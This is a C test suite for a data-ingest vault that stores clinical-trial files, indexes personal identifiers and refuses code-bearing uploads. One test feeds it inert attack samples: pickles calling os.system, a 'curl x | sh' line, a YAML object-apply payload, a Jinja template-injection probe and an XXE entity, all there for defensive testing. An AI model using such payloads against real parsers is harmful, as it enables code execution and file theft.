/* The ingest crossing end to end, with a ledger and a keeper made of memory: what goes in comes back
 * bit for bit, the roster knows its people, leaves hold none of them, and a failure of any part at any
 * moment leaves nothing behind. */
#include "test.h"

#include <fcntl.h>
#include <ftw.h>
#include <sys/mman.h>
#include <unistd.h>

#include "base/file.h"
#include "base/random.h"
#include "detect/echo.h"
#include "detect/roster.h"
#include "doors/ingest/door.h"
#include "ledger/event.h"
#include "vault/canary.h"
#include "vault/confirm.h"

#ifdef SL_SANITIZED
#define CONFINED false
#else
#define CONFINED true
#endif

/* ---- the world ---- */

typedef struct {
    sl_buf leaves; /* events, a line each */
    uint64_t count;
    size_t keys; /* made and not forgotten */
    size_t published;
    size_t echoes;
    sl_buf echo; /* the index of records published last */
    uint8_t key[32];
    bool closed;
    long calls_left;  /* negative: never fail */
    sl_digest let_in; /* by operators */
    sl_name vendor;
} world;

static const uint8_t match_key[32] = { 7 };

static sl_res fail_now(world *w)
{
    if (w->calls_left >= 0 && w->calls_left-- == 0) {
        return sl_fail(SL_E_UNAVAILABLE);
    }
    return SL_DONE;
}

static sl_res admit(void *context, const sl_ingest_request *request)
{
    world *w = context;
    SL_TRY(fail_now(w));
    return w->closed ? sl_fail(SL_E_VALVE) : SL_DONE;
}

static sl_res append(void *context, sl_view event, uint64_t *ret_index)
{
    world *w = context;
    SL_TRY(fail_now(w));
    bool containment = false;
    sl_res good = sl_event_check(event, "ingest", &containment);
    if (!sl_ok(good)) {
        print_error("%s %s\n%.*s\n", sl_res_name(good), sl_detail_get()->field, SL_FMT(event));
        fail();
    }
    SL_TRY(sl_buf_add(&w->leaves, event));
    SL_TRY(sl_buf_add_byte(&w->leaves, '\n'));
    *ret_index = w->count++;
    return SL_DONE;
}

static sl_res key_new(void *context, const sl_key_request *request, uint8_t ret_key[SL_KEY_BYTES])
{
    world *w = context;
    SL_OWN(sl_buf, wire, sl_buf_free) = { .max = 1024 };
    SL_TRY(fail_now(w));
    assert_done(sl_key_request_encode(request, &wire));
    assert_true(request->intent < w->count); /* the leaf exists */
    w->key[0]++;
    memcpy(ret_key, w->key, sizeof w->key);
    w->keys++;
    return SL_DONE;
}

static sl_res key_forget(void *context, const sl_key_request *request)
{
    ((world *)context)->keys--;
    return SL_DONE;
}

static sl_res lease(void *context, const char *compartment, const char *purpose,
                    uint8_t ret_key[SL_KEY_BYTES])
{
    SL_TRY(fail_now(context));
    assert_true(strcmp(purpose, "roster") == 0 || strcmp(purpose, "canary") == 0 ||
                strcmp(purpose, "echo") == 0);
    memcpy(ret_key, match_key, sizeof match_key);
    return SL_DONE;
}

static sl_res draw(void *context, void *p, size_t n)
{
    SL_TRY(fail_now(context));
    return sl_random_bytes(p, n);
}

static sl_res publish(void *context, const char *compartment, sl_view index)
{
    SL_TRY(fail_now(context));
    assert_string_equal(compartment, "trial-a");
    assert_true(index.n != 0);
    ((world *)context)->published++;
    return SL_DONE;
}

static sl_res publish_echo(void *context, const char *compartment, sl_view index,
                           uint64_t *ret_records)
{
    world *w = context;
    SL_TRY(fail_now(w));
    assert_string_equal(compartment, "trial-a");
    sl_buf_clear(&w->echo);
    w->echo.max = (size_t)1 << 24;
    SL_TRY(sl_buf_add(&w->echo, index));
    w->echoes++;
    *ret_records = 40 + w->echoes;
    return SL_DONE;
}

/* Operators let in the bytes of this digest, if any. */
static void standing(void *context, const char *compartment, const sl_digest *digest,
                     sl_ingest_standing *ret)
{
    const world *w = context;
    assert_string_equal(compartment, "trial-a");
    *ret =
        (sl_ingest_standing){ .admitted = sl_digest_eq(digest, &w->let_in), .admission_leaf = 7 };
    memcpy(ret->vendor, w->vendor, sizeof ret->vendor);
}

static sl_ingest_world calls_of(world *w)
{
    return (sl_ingest_world){ .context = w,
                              .confined = CONFINED,
                              .admit = admit,
                              .append = append,
                              .key_new = key_new,
                              .key_forget = key_forget,
                              .lease = lease,
                              .random = draw,
                              .publish = publish,
                              .publish_echo = publish_echo,
                              .standing = standing };
}

/* ---- a vault for each test ---- */

static char folder[64];
static int vault_fd = -1;

static int make_vault(void **state)
{
    (void)snprintf(folder, sizeof folder, "/tmp/sl-ingest-XXXXXX");
    return mkdtemp(folder) == NULL || !sl_ok(sl_dir_open(AT_FDCWD, folder, &vault_fd));
}

static int remove_one(const char *path, const struct stat *st, int type, struct FTW *ftw)
{
    return remove(path);
}

static int drop_vault(void **state)
{
    sl_fd_close(&vault_fd);
    return nftw(folder, remove_one, 8, FTW_DEPTH | FTW_PHYS);
}

static size_t files;

static int count_file(const char *path, const struct stat *st, int type, struct FTW *ftw)
{
    files += type == FTW_F ? 1 : 0;
    return 0;
}

static size_t files_in_vault(void)
{
    files = 0;
    assert_int_equal(nftw(folder, count_file, 8, FTW_PHYS), 0);
    return files;
}

static const char table[] = "USUBJID,FIRST,LAST,SSN,AGE\n"
                            "01-701-1015,Maynard,Mosciski,999-17-5017,63\n"
                            "01-701-1023,Curtis,Schmidtke,999-50-8136,91\n";

static int file_of(const char *text)
{
    int fd = memfd_create("data", MFD_CLOEXEC);
    assert_true(fd >= 0);
    assert_done(sl_fd_write_all(fd, sl_view_str(text)));
    return fd;
}

static sl_ingest_request request_for(const char *file_name, const char *object)
{
    sl_ingest_request request = { .compartment = "trial-a", .purpose = "analysis" };
    memcpy(request.compartment_id, "aa112233445566778899aabbccddeeff", 33);
    memcpy(request.principal, "bb112233445566778899aabbccddeeff", 33);
    (void)snprintf(request.file_name, sizeof request.file_name, "%s", file_name);
    (void)snprintf(request.object, sizeof request.object, "%s", object);
    return request;
}

static sl_res cross_text(world *w, const char *text, const sl_ingest_request *request,
                         sl_ingest_result *ret)
{
    SL_OWN(int, fd, sl_fd_close) = file_of(text);
    sl_ingest_world calls = calls_of(w);
    return sl_ingest_cross(&calls, vault_fd, fd, request, ret);
}

static void read_part(const world *w, const sl_manifest *m, sl_object_part part, sl_buf *out)
{
    SL_OWN(sl_object *, object, sl_object_close) = NULL;
    size_t n = 0;
    assert_done(sl_object_open(vault_fd, m, part, w->key, &m->parts[part].root, &object));
    out->max = sl_object_bytes(object) + 1;
    assert_done(sl_buf_reserve(out, out->max));
    assert_done(sl_object_read(object, 0, out->p, out->max, &n));
    out->n = n;
}

static world new_world(void)
{
    return (world){ .leaves = { .max = SL_MIB }, .calls_left = -1 };
}

static bool has(const sl_buf *text, const char *what)
{
    return sl_view_find(sl_buf_view(text), sl_view_str(what), 0) != SIZE_MAX;
}

/* ---- */

static void a_file_goes_in_and_comes_back(void **state)
{
    world w = new_world();
    SL_OWN(sl_buf, data, sl_buf_free) = { 0 };
    SL_OWN(sl_buf, about, sl_buf_free) = { 0 };
    SL_OWN(sl_buf, index, sl_buf_free) = { 0 };
    sl_ingest_request request = request_for("dm.csv", "");
    sl_ingest_result result;
    assert_done(cross_text(&w, table, &request, &result));
    read_part(&w, &result.manifest, SL_PART_DATA, &data);
    assert_view(sl_buf_view(&data), table);
    read_part(&w, &result.manifest, SL_PART_ABOUT, &about);
    assert_true(has(&about, "\"records\":2"));
    assert_true(has(&about, "\"name\":\"USUBJID\""));
    read_part(&w, &result.manifest, SL_PART_ROSTER, &index);
    sl_roster *roster = NULL;
    sl_class kind = SL_CLASS_COUNT;
    uint64_t record = 9;
    uint16_t flags = 9;
    assert_done(sl_roster_open(sl_buf_view(&index), match_key, &roster));
    assert_true(sl_roster_lookup(roster, SL_LIT("999-50-8136"), &kind, &record, &flags));
    assert_int_equal(kind, SL_CLASS_SSN);
    assert_int_equal(record & 0xFFFFFFFFFF, 1);
    assert_true(sl_roster_lookup(roster, SL_LIT("maynard MOSCISKI"), &kind, &record, &flags));
    assert_true(sl_roster_lookup(roster, SL_LIT("01-701-1015"), &kind, &record, &flags));
    assert_false(sl_roster_lookup(roster, SL_LIT("999-50-8137"), &kind, &record, &flags));
    sl_roster_free(roster);
    assert_string_equal(result.manifest.ref.object, "dm.csv");
    assert_int_equal(result.manifest.ref.version, 1);
    assert_int_equal(w.published, 1);
    assert_int_equal(result.intent_index, 0);
    sl_buf_free(&w.leaves);
    sl_buf_free(&w.echo);
}

/* What entered is known again when it is recited: record, place and all, and only under the key. */
static void records_are_known_again(void **state)
{
    static const char *const rows =
        "USUBJID,NOTE\n"
        "01-701-1015,\"Slept badly on the ferry, blamed the herring, then walked nine miles home\"\n"
        "01-701-1023,\"Keeps two hives behind the chapel and swears the stings loosen her stiff "
        "wrist; declined gold salts twice, asked instead for liniment with camphor and a letter\"\n";
    static const uint8_t other[32] = { 8 };
    world w = new_world();
    sl_ingest_request request = request_for("notes.csv", "");
    sl_ingest_result result;
    assert_done(cross_text(&w, rows, &request, &result));
    assert_int_equal(w.echoes, 1);
    SL_OWN(sl_buf, sealed, sl_buf_free) = { .max = (size_t)1 << 24 };
    read_part(&w, &result.manifest, SL_PART_ECHO, &sealed); /* what a lost one is made anew from */
    assert_true(sl_view_eq(sl_buf_view(&sealed), sl_buf_view(&w.echo)));
    sl_echo_index *index = NULL;
    assert_code(sl_echo_open(sl_buf_view(&w.echo), other, &index), SL_E_KEY);
    assert_done(sl_echo_open(sl_buf_view(&w.echo), match_key, &index));
    sl_echo_scratch *scratch = NULL;
    sl_echo_scan *scan = NULL;
    SL_OWN(sl_echo_matches, found, sl_echo_matches_free) = { 0 };
    assert_done(sl_echo_scratch_new(NULL, &scratch));
    assert_done(sl_echo_scan_new(index, scratch, &scan));
    assert_done(sl_echo_scan_feed(
        scan, SL_LIT("she KEEPS TWO HIVES behind the chapel and swears the stings loosen her"),
        &found));
    assert_done(sl_echo_scan_finish(scan, &found));
    sl_echo_place place;
    assert_true(found.n == 1 && sl_echo_place_of(index, &found.items[0], &place));
    sl_object_ref ref;
    assert_done(sl_echo_source_read(place.source, &ref));
    assert_string_equal(ref.uid, result.manifest.ref.uid);
    assert_string_equal(ref.object, result.manifest.ref.object);
    assert_int_equal(ref.version, 1);
    assert_true(has(&w.leaves, "echo.built") && has(&w.leaves, "\"records\":41"));
    assert_int_equal(place.number, 1);
    assert_true(place.offset > 80 && place.offset + place.length <= strlen(rows));
    assert_true(sl_view_find(sl_buf_view(&w.echo), SL_LIT("hives"), 0) == SIZE_MAX);
    sl_echo_scan_free(scan);
    sl_echo_scratch_free(scratch);
    sl_echo_index_free(index);
    sl_buf_free(&w.leaves);
    sl_buf_free(&w.echo);
}

static void leaves_tell_the_crossing_and_name_nobody(void **state)
{
    static const char *const told[] = { "ingest.intent", "ingest.scanned",
                                        "roster.built",  "\"outcome\":\"admitted\"",
                                        "\"ssn\":2",     "\"subject\":2" };
    static const char *const secret[] = { "Maynard",     "Mosciski", "999-17-5017",
                                          "01-701-1015", "USUBJID",  "dm.csv" };
    world w = new_world();
    sl_ingest_request request = request_for("dm.csv", "");
    sl_ingest_result result;
    assert_done(cross_text(&w, table, &request, &result));
    for (size_t i = 0; i < SL_COUNT_OF(told); i++) {
        assert_true(has(&w.leaves, told[i]));
    }
    for (size_t i = 0; i < SL_COUNT_OF(secret); i++) {
        assert_false(has(&w.leaves, secret[i]));
    }
    char root[65];
    sl_digest_hex(&result.manifest.parts[SL_PART_DATA].root, root);
    assert_true(has(&w.leaves, root));
    sl_buf_free(&w.leaves);
    sl_buf_free(&w.echo);
}

static void versions_count_up_under_one_id(void **state)
{
    world w = new_world();
    sl_ingest_request request = request_for("dm.csv", "demographics");
    sl_ingest_result first;
    sl_ingest_result second;
    assert_done(cross_text(&w, table, &request, &first));
    assert_done(cross_text(&w, "A,B\n1,2\n", &request, &second));
    assert_int_equal(second.manifest.ref.version, 2);
    assert_string_equal(first.manifest.ref.uid, second.manifest.ref.uid);
    sl_buf_free(&w.leaves);
    sl_buf_free(&w.echo);
}

static void a_file_named_after_a_person_gets_another_name(void **state)
{
    static const char *const names[] = { "Maynard_Mosciski.csv", "01-701-1015.csv",
                                         "x999175017.csv", "\xC3\xA4\xC3\xB6" };
    for (size_t i = 0; i < SL_COUNT_OF(names); i++) {
        world w = new_world();
        sl_ingest_request request = request_for(names[i], "");
        sl_ingest_result result;
        /* the last one has no extension: it is text */
        assert_done(cross_text(&w, table, &request, &result));
        assert_memory_equal(result.manifest.ref.object, "object-", 7);
        sl_buf_free(&w.leaves);
        sl_buf_free(&w.echo);
    }
}

static void what_is_refused_leaves_a_leaf_and_nothing_else(void **state)
{
    static const struct {
        const char *text;
        bool closed;
        sl_code code;
        const char *outcome;
    } cases[] = {
        { table, true, SL_E_VALVE, "\"outcome\":\"refused\"" },
        { "A,B\n1,\"2\n", false, SL_E_TRUNCATED, "\"outcome\":\"failed\"" },
        { "A,B\n\"1\"x,2\n", false, SL_E_SYNTAX, "\"outcome\":\"failed\"" },
    };
    for (size_t i = 0; i < SL_COUNT_OF(cases); i++) {
        world w = new_world();
        w.closed = cases[i].closed;
        sl_ingest_request request = request_for("dm.csv", "");
        sl_ingest_result result;
        assert_code(cross_text(&w, cases[i].text, &request, &result), cases[i].code);
        assert_int_equal(files_in_vault(), 0);
        assert_int_equal(w.keys, 0);
        assert_int_equal(w.count, 1);
        assert_true(has(&w.leaves, cases[i].outcome));
        assert_true(has(&w.leaves, sl_res_name((sl_res){ (int32_t)cases[i].code })));
        sl_buf_free(&w.leaves);
        sl_buf_free(&w.echo);
    }
}

static void a_failing_part_at_any_moment_leaves_nothing_behind(void **state)
{
    long failures = 0;
    for (;; failures++) {
        world w = new_world();
        w.calls_left = failures;
        sl_ingest_request request = request_for("dm.csv", "");
        sl_ingest_result result;
        sl_res r = cross_text(&w, table, &request, &result);
        bool reached = w.calls_left < 0;
        if (!reached) {
            assert_done(r);
            sl_buf_free(&w.leaves);
            sl_buf_free(&w.echo);
            break;
        }
        assert_code(r, SL_E_UNAVAILABLE);
        assert_int_equal(files_in_vault(), 0);
        assert_int_equal(w.keys, 0);
        assert_false(has(&w.leaves, "admitted"));
        assert_true(w.count == 0 || has(&w.leaves, "\"outcome\":\"failed\""));
        sl_buf_free(&w.leaves);
        sl_buf_free(&w.echo);
    }
    assert_true(failures >= 11);
    assert_true(files_in_vault() != 0);
}

/* What the site states of its data is a leaf of each version, before that is admitted; unsaid, there is none. */
static void what_the_site_states_is_registered(void **state)
{
    world w = new_world();
    sl_ingest_request request = request_for("dm.csv", "");
    sl_ingest_result result;
    assert_done(cross_text(&w, table, &request, &result));
    assert_false(has(&w.leaves, "object.registered"));
    sl_buf_clear(&w.leaves);
    memcpy(request.label, "restricted", 11);
    memcpy(request.legal_basis, "consent", 8);
    memcpy(request.object, "second", 7);
    assert_done(cross_text(&w, table, &request, &result));
    assert_true(has(&w.leaves, "object.registered"));
    assert_true(has(&w.leaves, "\"label\":\"restricted\""));
    assert_true(has(&w.leaves, "\"legal_basis\":\"consent\""));
    assert_true(has(&w.leaves, result.manifest.ref.uid));
    size_t registered = sl_view_find(sl_buf_view(&w.leaves), SL_LIT("object.registered"), 0);
    size_t admitted = sl_view_find(sl_buf_view(&w.leaves), SL_LIT("\"admitted\""), 0);
    assert_true(registered < admitted);
    sl_buf_free(&w.leaves);
    sl_buf_free(&w.echo);
}

static void canaries_are_planted_beside_the_original(void **state)
{
    world w = new_world();
    SL_OWN(sl_buf, data, sl_buf_free) = { 0 };
    SL_OWN(sl_buf, planted, sl_buf_free) = { 0 };
    SL_OWN(sl_buf, index, sl_buf_free) = { 0 };
    sl_ingest_request request = request_for("dm.csv", "");
    sl_ingest_result result;
    request.canaries = 3;
    assert_done(cross_text(&w, table, &request, &result));
    read_part(&w, &result.manifest, SL_PART_DATA, &data);
    assert_view(sl_buf_view(&data), table);
    read_part(&w, &result.manifest, SL_PART_CANARY, &planted);
    read_part(&w, &result.manifest, SL_PART_ROSTER, &index);
    assert_true(has(&planted, "\"number\":2"));
    assert_true(has(&w.leaves, "canary.planted"));
    sl_roster *roster = NULL;
    assert_done(sl_roster_open(sl_buf_view(&index), match_key, &roster));
    for (uint64_t i = 0; i < 3; i++) {
        sl_canary canary;
        sl_class kind = SL_CLASS_COUNT;
        uint64_t who = 0;
        uint16_t flags = 0;
        sl_canary_make(match_key, result.manifest.ref.uid, SL_CANARIES_MAX + i, &canary);
        assert_true(has(&planted, canary.mrn));
        assert_false(has(&w.leaves, canary.mrn));
        assert_true(sl_roster_lookup(roster, sl_view_str(canary.name), &kind, &who, &flags));
        assert_int_equal(flags & SL_ROSTER_CANARY, SL_ROSTER_CANARY);
        assert_true(sl_roster_lookup(roster, sl_view_str(canary.compound), &kind, &who, &flags));
    }
    sl_roster_free(roster);
    sl_buf_free(&w.leaves);
    sl_buf_free(&w.echo);
}

static void an_opaque_file_is_sealed_without_a_roster(void **state)
{
    world w = new_world();
    SL_OWN(int, fd, sl_fd_close) = memfd_create("data", MFD_CLOEXEC);
    /* of no format that the scan knows, but let in by operators */
    sl_view bytes = SL_LIT("\x01\xE9\0\0\xFE\x9C\0\x01");
    w.let_in = sl_sha256(bytes);
    assert_done(sl_fd_write_all(fd, bytes));
    sl_ingest_world calls = calls_of(&w);
    sl_ingest_request request = request_for("model.bin", "");
    sl_ingest_result result;
    assert_done(sl_ingest_cross(&calls, vault_fd, fd, &request, &result));
    assert_int_equal(result.inspection.format, SL_FORMAT_BINARY);
    assert_false(result.manifest.parts[SL_PART_ROSTER].present);
    assert_true(has(&w.leaves, "\"media\":\"binary\""));
    sl_buf_free(&w.leaves);
    sl_buf_free(&w.echo);
}

#define CASE(name, text, verdict, code)                                                            \
    {                                                                                              \
        name, text, sizeof(text) - 1, verdict, code                                                \
    }

/* Each is refused or held as what it is, whatever its name; nothing is sealed. */
static void what_would_run_code_is_not_admitted(void **state)
{
    static const struct {
        const char *name;
        const char *bytes;
        size_t n;
        const char *verdict;
        int32_t code;
    } CASES[] = {
        /* a pickle of protocol 0 is text: os.system('echo inert') */
        { "table.csv", "cos\nsystem\n(S'echo inert'\ntR.", 29, "\"refuse\"", SL_E_ARTEFACT },
        { "model.bin",
          "\x80\x02"
          "cos\nsystem\nX\x0a\0\0\0echo inert\x85R.",
          31, "\"refuse\"", SL_E_ARTEFACT },
        /* a pickle that only names a class nobody reviewed */
        { "model.bin",
          "\x80\x02"
          "cacme.models\nNet\n.",
          20, "\"hold\"", SL_E_HELD },
        { "model.safetensors", "\xFF\0\0\0\0\0\0\0{}", 10, "\"refuse\"", SL_E_ARTEFACT },
        /* of no format that anybody knows */
        { "weights.dat", "\x01\xE9\0\0\xFE\x9C\0\x01", 8, "\"hold\"", SL_E_HELD },
        /* text that is loaded, run or rendered */
        CASE("train.py", "import torch\n", "\"hold\"", SL_E_HELD),
        CASE("train.py", "import os\nos.system('curl x | sh')\n", "\"refuse\"", SL_E_ARTEFACT),
        CASE("run", "#!/bin/sh\necho inert\n", "\"hold\"", SL_E_HELD),
        CASE("analysis.R", "x <- 1\n", "\"hold\"", SL_E_HELD),
        CASE(
            "n.ipynb",
            "{\"nbformat\": 4, \"cells\": [{\"cell_type\": \"code\", \"source\": \"!make all\", \"outputs\": []}]}",
            "\"hold\"", SL_E_HELD),
        CASE("chat_template.jinja", "Hello {{ helper(1) }}", "\"hold\"", SL_E_HELD),
        CASE("chat_template.jinja", "{{ ''.__class__ }}", "\"refuse\"", SL_E_ARTEFACT),
        CASE("config.json", "{\"auto_map\": {\"AutoModel\": \"m.M\"}}", "\"refuse\"",
             SL_E_ARTEFACT),
        CASE("m.yaml", "a: !!python/object/apply:os.system [x]\n", "\"refuse\"", SL_E_ARTEFACT),
        CASE("m.pkl", "cacme.models\nNet\n", "\"refuse\"",
             SL_E_ARTEFACT), /* breaks off behind a name */
        CASE("m.xml",
             "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///x'>]><x>&e;</x>",
             "\"refuse\"", SL_E_ARTEFACT),
    };
    for (size_t i = 0; i < sizeof CASES / sizeof CASES[0]; i++) {
        world w = new_world();
        SL_OWN(int, fd, sl_fd_close) = memfd_create("data", MFD_CLOEXEC);
        assert_done(sl_fd_write_all(fd, sl_view_of(CASES[i].bytes, CASES[i].n)));
        sl_ingest_world calls = calls_of(&w);
        sl_ingest_request request = request_for(CASES[i].name, "");
        sl_ingest_result result;
        assert_code(sl_ingest_cross(&calls, vault_fd, fd, &request, &result), CASES[i].code);
        assert_true(has(&w.leaves, CASES[i].verdict));
        assert_true(has(&w.leaves, "\"outcome\":\"refused\""));
        assert_false(has(&w.leaves, "admitted"));
        sl_buf_free(&w.leaves);
    }
}

/* The same bytes that operators let in, and no others; what is dangerous never, whoever signed. */
static void held_bytes_enter_when_operators_let_them_in(void **state)
{
    static const char HELD[] = "\x80\x02"
                               "cacme.models\nNet\n.";
    static const char OTHER[] = "\x80\x02"
                                "cacme.models\nNot\n.";
    static const char BAD[] = "\x80\x02"
                              "cos\nsystem\nX\x0a\0\0\0echo inert\x85R.";
    const struct {
        sl_view bytes;
        sl_view let_in;
        int32_t code;
        const char *leaf;
    } CASES[] = {
        { sl_view_of(HELD, 20), { 0 }, SL_E_HELD, "\"rules\":{\"pickle.global_unknown\":1}" },
        { sl_view_of(HELD, 20), sl_view_of(OTHER, 20), SL_E_HELD, "\"verdict\":\"hold\"" },
        { sl_view_of(HELD, 20), sl_view_of(HELD, 20), SL_OK, "\"admission\":7" },
        { sl_view_of(BAD, 31), sl_view_of(BAD, 31), SL_E_ARTEFACT, "\"verdict\":\"refuse\"" },
        { SL_LIT("\xFD"
                 "7zXZ\0\0\4"),
          { 0 },
          SL_E_ARTEFACT,
          "\"format\":\"xz_lzma_zstd_or_lz4\"" }, /* a name of several words */
    };
    for (size_t i = 0; i < SL_COUNT_OF(CASES); i++) {
        world w = new_world();
        w.let_in = sl_sha256(CASES[i].let_in);
        SL_OWN(int, fd, sl_fd_close) = memfd_create("data", MFD_CLOEXEC);
        assert_done(sl_fd_write_all(fd, CASES[i].bytes));
        sl_ingest_world calls = calls_of(&w);
        sl_ingest_request request = request_for("model.bin", "");
        sl_ingest_result result;
        sl_res r = sl_ingest_cross(&calls, vault_fd, fd, &request, &result);
        assert_int_equal(r.code, CASES[i].code);
        assert_true(has(&w.leaves, CASES[i].leaf));
        assert_true(has(&w.leaves, "\"type\":\"artefact.scanned\""));
        assert_int_equal(has(&w.leaves, "admitted"), sl_ok(r));
        assert_int_equal(has(&w.leaves, "\"admission\""), sl_ok(r));
        sl_buf_free(&w.leaves);
        sl_buf_free(&w.echo);
    }
}

/* The leaf says whose the bytes are; a data set's digest is in none. */
static void leaves_tell_whose_an_artefact_is(void **state)
{
    static const char *const vendors[] = { "", "acme" };
    for (size_t i = 0; i < SL_COUNT_OF(vendors); i++) {
        world w = new_world();
        assert_true(vendors[i][0] == 0 || sl_ok(sl_name_set(w.vendor, sl_view_str(vendors[i]))));
        SL_OWN(int, fd, sl_fd_close) = memfd_create("data", MFD_CLOEXEC);
        assert_done(sl_fd_write_all(fd, SL_LIT("\x80\x02K\x01.")));
        sl_ingest_world calls = calls_of(&w);
        sl_ingest_request request = request_for("model.pkl", "");
        sl_ingest_result result;
        assert_done(sl_ingest_cross(&calls, vault_fd, fd, &request, &result));
        assert_true(has(&w.leaves, i == 0 ? "\"registered\":false" : "\"registered\":true"));
        assert_int_equal(has(&w.leaves, "\"vendor\":\"acme\""), i == 1);
        sl_buf_free(&w.leaves);
        sl_buf_free(&w.echo);
    }
    world w = new_world();
    SL_OWN(int, fd, sl_fd_close) = memfd_create("data", MFD_CLOEXEC);
    assert_done(sl_fd_write_all(fd, SL_LIT("USUBJID,AGE\n01-701-1015,63\n")));
    sl_ingest_world calls = calls_of(&w);
    sl_ingest_request request = request_for("a.csv", "");
    sl_ingest_result result;
    assert_done(sl_ingest_cross(&calls, vault_fd, fd, &request, &result));
    assert_false(has(&w.leaves, "artefact.scanned"));
    char hex[2 * SL_DIGEST_BYTES + 1];
    sl_digest_hex(&result.inspection.digest, hex);
    assert_false(has(&w.leaves, hex));
    sl_buf_free(&w.leaves);
    sl_buf_free(&w.echo);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(what_would_run_code_is_not_admitted, make_vault,
                                        drop_vault),
        cmocka_unit_test_setup_teardown(held_bytes_enter_when_operators_let_them_in, make_vault,
                                        drop_vault),
        cmocka_unit_test_setup_teardown(leaves_tell_whose_an_artefact_is, make_vault, drop_vault),
        cmocka_unit_test_setup_teardown(a_file_goes_in_and_comes_back, make_vault, drop_vault),
        cmocka_unit_test_setup_teardown(records_are_known_again, make_vault, drop_vault),
        cmocka_unit_test_setup_teardown(leaves_tell_the_crossing_and_name_nobody, make_vault,
                                        drop_vault),
        cmocka_unit_test_setup_teardown(versions_count_up_under_one_id, make_vault, drop_vault),
        cmocka_unit_test_setup_teardown(a_file_named_after_a_person_gets_another_name, make_vault,
                                        drop_vault),
        cmocka_unit_test_setup_teardown(what_is_refused_leaves_a_leaf_and_nothing_else, make_vault,
                                        drop_vault),
        cmocka_unit_test_setup_teardown(a_failing_part_at_any_moment_leaves_nothing_behind,
                                        make_vault, drop_vault),
        cmocka_unit_test_setup_teardown(what_the_site_states_is_registered, make_vault, drop_vault),
        cmocka_unit_test_setup_teardown(canaries_are_planted_beside_the_original, make_vault,
                                        drop_vault),
        cmocka_unit_test_setup_teardown(an_opaque_file_is_sealed_without_a_roster, make_vault,
                                        drop_vault),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
